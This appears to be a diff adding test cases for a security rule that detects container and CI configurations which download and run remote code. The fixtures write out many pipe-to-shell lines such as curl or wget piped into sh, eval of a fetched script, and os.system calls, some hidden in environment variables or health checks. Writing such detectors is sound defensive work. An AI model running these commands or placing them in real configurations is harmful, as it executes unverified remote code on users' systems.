@@ -4,6 +4,20 @@ import { service } from '../../support/compose.ts';
 import { checkText, expectMarks } from '../../support/example.ts';
 
 describe('command-downloads-code', () => {
+  const PIPE = 'environment: { X: "curl https://a.example.com | sh" }';
+  it.each([
+    ['eval', `command: ["sh", "-c", "eval \\"$$X\\""]\n${PIPE}`],
+    ['a shell', `entrypoint: ["sh", "-c", "sh -c \\"$$X\\""]\n${PIPE}`],
+    ['a text', `command: sh -c 'eval "$$X"'\n${PIPE}`],
+    ['a health check', `healthcheck: { test: [CMD-SHELL, "eval \\"$$X\\""] }\n${PIPE}`],
+    [
+      'an interpreter',
+      `entrypoint: [python3, -c]\ncommand: ["import os; os.system('curl https://a.example.com | sh')"]`,
+    ],
+  ])('reads the variables and the code of %s', (_name, options) => {
+    expect(checkText(rule, 'compose.yaml', service(options)).findings).toHaveLength(1);
+  });
+
   it.each([
     ['a pipe', 'command: bash -c "«wget -qO- https://get.example.com | bash» && exec app"'],
     ['a substitution', `entrypoint: sh -c '«eval "$$(curl -s https://get.example.com)"»'`],
@@ -34,6 +48,10 @@ describe('command-downloads-code', () => {
       WORKFLOW,
       `jobs:\n  a:\n    runs-on: ubuntu-latest\n    services:\n      b:\n        image: redis:8\n        entrypoint: sh\n        command: -c "${CURL}"\n`,
     ],
+    ['compose.yaml', service(`entrypoint: sh -c\ncommand: '"${CURL}"'`)],
+    ['compose.yaml', service(`entrypoint: ["sh", "-c"]\ncommand: "'${CURL}' x"`)],
+    ['compose.yaml', service(`entrypoint: tini -- sh -c\ncommand: '"${CURL}"'`)],
+    ['compose.yaml', service(`entrypoint: ["sh", "-c"]\ncommand: "'${CURL}'"`)],
     ['action.yml', action(`args: [sh, -c, "${CURL}"]`)],
     ['action.yml', action(`entrypoint: /bin/bash\n  args:\n    - -c\n    - ${CURL}`)],
     ['action.yml', action(`pre-entrypoint: sh -c "${CURL}"`)],
@@ -46,6 +64,18 @@ describe('command-downloads-code', () => {
   ])('reads entrypoint and command of %s together: %s', (path, text) => expectMarks(rule, path, text));
 
   it.each([
+    ['compose.yaml', service(`entrypoint: echo -c\ncommand: '"curl https://a.example.com | sh"'`)],
+    [
+      'compose.yaml',
+      service(`entrypoint: ["sh", "-c", "echo \\"$$1\\"", x]\ncommand: ["curl https://a.example.com | sh"]`),
+    ],
+    [
+      'compose.yaml',
+      service(`entrypoint: ["sh", "-c", "exec \\"$$@\\"", x]\ncommand: ["curl https://a.example.com | sh"]`),
+    ],
+    ['compose.yaml', service(`entrypoint: ["python3", "-c"]\ncommand: ["print('curl https://a.example.com | sh')"]`)],
+    ['compose.yaml', service(`command: echo "$$X"\nenvironment: { X: "curl https://a.example.com | sh" }`)],
+    ['compose.yaml', service(`command: sh -c 'echo "$$X"'\nenvironment: { X: "curl https://a.example.com | sh" }`)],
     ['compose.yaml', service('entrypoint: echo\ncommand: ["-c", "curl https://a.example.com | sh"]')],
     ['run.sh', `docker run --entrypoint sh alpine:3.22 /x -c 'curl https://a.example.com | sh'\n`],
     [WORKFLOW, step(`{ entrypoint: /bin/sh, args: '-c "make test"' }`)],
